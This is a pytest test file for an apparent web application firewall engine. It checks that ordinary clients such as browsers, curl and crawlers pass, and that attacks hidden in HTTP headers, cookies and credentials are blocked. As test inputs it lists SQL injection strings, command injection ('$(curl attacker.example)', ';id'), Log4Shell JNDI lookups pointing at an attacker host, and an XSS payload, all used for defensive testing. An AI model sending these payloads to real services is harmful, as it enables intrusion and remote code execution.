"""The engine end to end on headers, cookies and credentials: blind spots closed, real clients pass.

A route is learned from one Python client; then curl, browsers and bots must pass, and attacks
carried in headers, cookies and credentials (never seen by the route, or seen with other values)
must block.
"""

from __future__ import annotations

import json
import random
from importlib import resources

import pytest

from vigil.behavior.alerts import Severity
from vigil.behavior.decision import Mode, Verdict
from vigil.behavior.engine import Engine
from vigil.http.model import Request

from .builders import RequestBuilder, codes, trained_engine, words

PYTHON_CLIENT = (
    ("host", "orders.default.svc:8000"),
    ("user-agent", "python-httpx/0.27.0"),
    ("accept", "application/json"),
    ("accept-encoding", "gzip, deflate"),
    ("connection", "keep-alive"),
    ("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl"),
    ("cookie", "session=4f9c2d7e8a1b3c5d4f9c2d7e8a1b3c5d"),
)

CURL = (("host", "orders.example.com"), ("user-agent", "curl/8.5.0"), ("accept", "*/*"))

CHROME = (
    ("host", "orders.example.com"),
    ("connection", "keep-alive"),
    ("sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'),
    ("sec-ch-ua-mobile", "?0"),
    ("sec-ch-ua-platform", '"Windows"'),
    ("upgrade-insecure-requests", "1"),
    (
        "user-agent",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
    ),
    (
        "accept",
        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,"
        "image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    ),
    ("sec-fetch-site", "none"),
    ("sec-fetch-mode", "navigate"),
    ("sec-fetch-user", "?1"),
    ("sec-fetch-dest", "document"),
    ("accept-encoding", "gzip, deflate, br, zstd"),
    ("accept-language", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7"),
    ("priority", "u=0, i"),
    ("if-none-match", 'W/"5e15153d-120f"'),
    ("referer", "https://orders.example.com/list?page=2"),
    ("x-forwarded-for", "203.0.113.7, 10.0.0.2"),
    ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
)

SITE_SCRIPT_COOKIES = "; ".join(
    (
        "session=4f9c2d7e8a1b3c5d4f9c2d7e8a1b3c5d",
        "_ga=GA1.1.1234567890.1732000000",
        "_ga_ABC123XYZ=GS2.1.s1732000000$o3$g1$t1732000456$j60$l0$h0",
        "_gid=GA1.2.987654321.1732000000",
        "_fbp=fb.1.1732000000000.123456789",
        "__gads=ID=abc123:T=1732000000:RT=1732000000:S=ALNI_Mabc",
        "OptanonConsent=isGpcEnabled=0&datestamp=Mon+Dec+01+2026+10%3A00%3A00+GMT%2B0100"
        "&groups=C0001%3A1%2CC0002%3A0",
        "cart=%5B%7B%22id%22%3A3%7D%5D",
    )
)
"""Cookies a browser sends to every route of a site: analytics, ads and consent scripts' ones."""


def python_request(rng: random.Random) -> Request:
    return (
        RequestBuilder()
        .get("/orders")
        .query(customer=words(rng, 4, 9), page=str(rng.randint(1, 40)))
        .headers(PYTHON_CLIENT)
        .build()
    )


@pytest.fixture(scope="module")
def orders() -> Engine:
    """``GET /orders`` learned from 300 requests of one Python client, enforcing."""
    return trained_engine(300, make=python_request)


def ask(engine: Engine, headers: tuple[tuple[str, str], ...]) -> list[str]:
    request = RequestBuilder().get("/orders").query(customer="tom", page="3").headers(headers)
    decision = engine.inspect_request(request.build())
    assert decision.verdict is not Verdict.BLOCK, [a.reason for a in decision.alerts]
    return codes(decision)


@pytest.mark.parametrize(
    "headers",
    [
        pytest.param(CURL, id="curl"),
        pytest.param(CHROME, id="chrome"),
        pytest.param(
            (
                ("host", "10.0.3.7:8000"),
                (
                    "user-agent",
                    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                ),
                ("accept", "text/html,*/*;q=0.8"),
                ("from", "googlebot(at)googlebot.com"),
            ),
            id="googlebot",
        ),
        pytest.param((("user-agent", "kube-probe/1.29"), ("accept", "*/*")), id="kube-probe"),
        pytest.param((*CHROME, ("cookie", SITE_SCRIPT_COOKIES)), id="chrome-with-site-cookies"),
    ],
)
def test_other_clients_pass_a_policy_learned_from_one_python_client(
    orders: Engine, headers: tuple[tuple[str, str], ...]
) -> None:
    ask(orders, headers)


def test_real_browser_user_agents_pass() -> None:
    fake_useragent = pytest.importorskip("fake_useragent")
    data = resources.files(fake_useragent).joinpath("data/browsers.jsonl").read_text("utf-8")
    agents = sorted({json.loads(line)["useragent"] for line in data.splitlines() if line.strip()})
    engine = trained_engine(300, make=python_request)
    blocked = []
    for agent in agents:
        request = RequestBuilder().get("/orders").query(customer="tom", page="3")
        decision = engine.inspect_request(
            request.headers((*CHROME[:6], ("user-agent", agent))).build()
        )
        if decision.blocked:
            blocked.append((agent, [a.reason for a in decision.alerts]))
    assert blocked == []


@pytest.mark.parametrize(
    ("header", "value"),
    [
        pytest.param("user-agent", "1 or sleep(5)#", id="ua-time-based-sqli"),
        pytest.param("user-agent", ";id", id="ua-command"),
        pytest.param("user-agent", "/etc/crontab", id="ua-file"),
        pytest.param("user-agent", "${jndi:ldap://attacker.example/a}", id="ua-jndi"),
        pytest.param("user-agent", "Mozilla/5.0 ${${lower:j}ndi:ldap://x/a}", id="ua-nested-jndi"),
        pytest.param("referer", "https://x.example/?q=' or 1=1--", id="referer-sqli"),
        pytest.param("x-user", "' OR '1'='1", id="unknown-header-sqli"),
        pytest.param("x-forwarded-host", "<script>alert(1)</script>", id="standard-header-xss"),
        pytest.param("accept", "' OR '1'='1", id="accept-sqli"),
        pytest.param("authorization", "Bearer ' OR '1'='1", id="credential-sqli"),
        pytest.param("cookie", "session=' OR '1'='1", id="known-cookie-sqli"),
        pytest.param("cookie", "theme=' OR '1'='1", id="unknown-cookie-sqli"),
        pytest.param("traceparent", "00-' or 1=1--", id="traceparent-sqli"),
        pytest.param("x-request-id", "$(curl attacker.example)", id="request-id-command"),
    ],
)
def test_attacks_in_headers_cookies_and_credentials_block(
    orders: Engine, header: str, value: str
) -> None:
    headers = [(k, v) for k, v in PYTHON_CLIENT if k != header]
    if header == "cookie" and value.startswith("theme"):
        headers.append(("cookie", "session=4f9c2d7e8a1b3c5d4f9c2d7e8a1b3c5d; " + value))
    else:
        headers.append((header, value))
    request = (
        RequestBuilder().get("/orders").query(customer="tom", page="3").headers(tuple(headers))
    )
    decision = orders.inspect_request(request.build())
    assert decision.verdict is Verdict.BLOCK, [a.reason for a in decision.alerts]
    assert any(a.severity >= Severity.HIGH for a in decision.alerts) or decision.score >= 3


def test_unknown_header_with_sql_structure_blocks_on_structure_alone(orders: Engine) -> None:
    request = RequestBuilder().get("/orders").query(customer="tom", page="3")
    decision = orders.inspect_request(
        request.headers((*PYTHON_CLIENT, ("x-user", "' OR '1'='1"))).build()
    )
    structure = [a for a in decision.alerts if a.code == "V109"]
    assert [(a.field, a.severity) for a in structure] == [("header.x-user", Severity.HIGH)]


def test_credentials_are_judged_by_shape_and_never_learned(orders: Engine) -> None:
    learned = orders.policy.routes["GET /orders"].fields["header.authorization.credentials"]
    assert learned.grammar == "token"
    secret = "eyJhbGciOiJIUzI1NiJ9"
    assert secret not in orders.policy.to_yaml()
    other_token = "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiI5OSJ9.b3RoZXItc2ln"
    request = RequestBuilder().get("/orders").query(customer="tom", page="3")
    headers = tuple((k, other_token if k == "authorization" else v) for k, v in PYTHON_CLIENT)
    assert codes(orders.inspect_request(request.headers(headers).build())) == []


def test_learning_mode_reports_header_attacks_too() -> None:
    engine = trained_engine(300, make=python_request, mode=Mode.LEARN)
    request = RequestBuilder().get("/orders").query(customer="tom", page="3")
    decision = engine.inspect_request(
        request.headers((*PYTHON_CLIENT[:1], ("user-agent", ";id"))).build()
    )
    assert "V109" in codes(decision)
    assert not engine.observe(decision)


def test_a_visitor_from_a_campaign_link_passes(orders: Engine) -> None:
    request = RequestBuilder().get("/orders").query(customer="tom", page="3")
    request.query(utm_source="newsletter", utm_medium="email", utm_campaign="winter-2026")
    request.query(gclid="Cj0KCQiA4NWrBhD-ARIsAFCKwWs7_BwE", fbclid="IwAR2F4-dbP0l7Mn1Iaw")
    decision = orders.inspect_request(request.headers(CHROME).build())
    assert decision.verdict is Verdict.ALLOW, [a.reason for a in decision.alerts]


def test_an_unknown_parameter_that_is_no_link_decoration_still_blocks(orders: Engine) -> None:
    request = RequestBuilder().get("/orders").query(customer="tom", page="3", debug="1")
    decision = orders.inspect_request(request.headers(CHROME).build())
    assert decision.verdict is Verdict.BLOCK
    assert codes(decision) == ["V110"]


def test_unknown_headers_are_one_piece_of_evidence_however_many(orders: Engine) -> None:
    added = (
        ("sec-fetch-storage-access", "active"),
        ("cf-ray", "8c1f0a2b3c4d5e6f-CDG"),
        ("cf-ipcountry", "FR"),
        ("true-client-ip", "203.0.113.9"),
        ("x-envoy-attempt-count", "1"),
    )
    request = RequestBuilder().get("/orders").query(customer="tom", page="3")
    decision = orders.inspect_request(request.headers((*CHROME, *added)).build())
    assert decision.verdict is Verdict.ALERT
    [alert] = decision.alerts
    assert (alert.code, alert.severity, alert.field) == (
        "V110",
        Severity.LOW,
        "header.sec-fetch-storage-access",
    )
    assert alert.seen == repr(
        "header.sec-fetch-storage-access, cf-ray, cf-ipcountry, true-client-ip, "
        "x-envoy-attempt-count"
    )


def test_content_of_every_unknown_header_is_still_judged(orders: Engine) -> None:
    added = (("x-a", "1"), ("x-b", "' OR '1'='1"))
    request = RequestBuilder().get("/orders").query(customer="tom", page="3")
    decision = orders.inspect_request(request.headers((*CHROME, *added)).build())
    assert decision.verdict is Verdict.BLOCK
    assert ("V109", "header.x-b") in [(a.code, a.field) for a in decision.alerts]
